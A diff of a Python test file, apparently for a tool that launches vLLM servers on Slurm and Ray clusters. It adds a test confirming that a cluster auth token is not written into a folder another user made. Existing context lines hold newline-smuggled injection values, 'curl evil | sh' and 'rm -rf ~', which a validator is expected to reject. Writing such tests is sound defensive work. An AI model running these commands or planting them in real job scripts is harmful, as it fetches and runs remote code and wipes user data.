@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 import sys
 
@@ -360,3 +361,21 @@ def test_sbatch_template_fields_cannot_add_lines(field):
         sbatch_template(**{field: "x\ncurl evil | sh"})
     with pytest.raises(VllmNotebookError, match="must be one line"):
         sbatch_template(server=["org/model", "--x\nrm -rf ~"])
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="making a folder of another user needs root")
+def test_ray_node_refuses_a_token_folder_someone_else_made(tmp_path):
+    """A folder pre-made by another user on a node would let them read the cluster's token."""
+    theirs = tmp_path / "vnb-ray-1" / "auth-n1"
+    theirs.mkdir(parents=True)
+    os.chown(theirs, 65534, 65534)
+    run = subprocess.run([sys.executable, "-m", "vllm_notebook._raynode", "--token-dir", str(theirs), "true"],
+                         input="secret-token\n", capture_output=True, text=True, timeout=30)
+    assert run.returncode != 0 and "not a folder of ours" in run.stderr
+    assert not (theirs / "token").exists()
+    mine = tmp_path / "vnb-ray-2" / "auth-n1"
+    run = subprocess.run([sys.executable, "-m", "vllm_notebook._raynode", "--token-dir", str(mine), "sh", "-c",
+                          'test "$(cat "$RAY_AUTH_TOKEN_PATH")" = secret-token && stat -c %a "$RAY_AUTH_TOKEN_PATH"'],
+                         input="secret-token\n", capture_output=True, text=True, timeout=30)
+    assert run.returncode == 0 and run.stdout.strip() == "600", run.stderr
+    assert not mine.exists(), "the token folder is removed when Ray exits"
